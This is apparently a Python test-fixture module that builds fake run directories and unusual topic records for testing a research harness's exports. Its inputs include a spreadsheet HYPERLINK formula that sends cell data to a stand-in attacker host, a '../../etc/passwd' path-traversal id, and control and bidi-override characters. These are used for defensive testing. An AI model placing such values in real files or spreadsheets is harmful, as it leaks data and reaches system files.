"""Runs on the disk, made of rows, for tests of what is exported."""

from __future__ import annotations

import json
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from records import a_failed_result, a_hard_won_span, a_result, a_span
from report_runs import Told, append

from harness.domain.run import Span, TopicResult

Finished = tuple[TopicResult, Sequence[Span]]

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"see")'
ODD = 'a "quoted", text;\nof two lines\twith 量子, 🚀, \x1b[31m and \u202edesrever'


def a_run_of(
    path: Path, finished: Iterable[Finished], *, topics: int | None = None, **manifest: Any
) -> Path:
    """A results directory that holds these, in this order. `topics` is how many the dataset has."""
    path.mkdir()
    done = list(finished)
    said = {
        "version": 1,
        "run_id": "run",
        "created_at": "2026-11-16T12:00:00.000+00:00",
        "status": "complete",
        "sessions": 1,
        "dataset": {"path": "topics.jsonl", "topics": len(done) if topics is None else topics},
        "identity": {"workflow": "research", "endpoint": "mock", "model": "m"},
        "settings": {},
        **manifest,
    }
    (path / "run.json").write_text(json.dumps(said))
    append(path, [Told(result, spans) for result, spans in done])
    return path


def odd_topics() -> list[Finished]:
    """Four topics, finished in another order than that of the dataset, with everything odd that
    they can have.
    """
    hard = a_hard_won_span()
    return [
        (
            a_failed_result(
                2, topic_id="../../etc/passwd", topic=FORMULA, calls=0, metadata={"n": None}
            ),
            (),
        ),
        (
            a_result(
                0, topic_id="t0", topic=ODD, output=FORMULA, metadata={"=1+1": [1, {"deep": "@x"}]}
            ),
            (
                a_span("t0", "first", content=FORMULA, reasoning=ODD),
                a_span("t0", "second", cost=None),
            ),
        ),
        (
            a_result(3, topic_id="con", cost=None, output={"any": ["json", -1]}, status="degraded"),
            (
                a_span(
                    "con",
                    "third",
                    **{name: getattr(hard, name) for name in ("tool_calls", "served")},
                ),
            ),
        ),
        (
            a_result(
                1,
                topic_id="量子",
                topic="",
                output="",
                sections=({"question": "q?", "answer": "a"},),
            ),
            (),
        ),
    ]


def many(number: int) -> Iterable[Finished]:
    """Topics of one call each, the last first."""
    for index in reversed(range(number)):
        yield a_result(index), (a_span(f"t{index}", "ask", content=f"answer {index}"),)
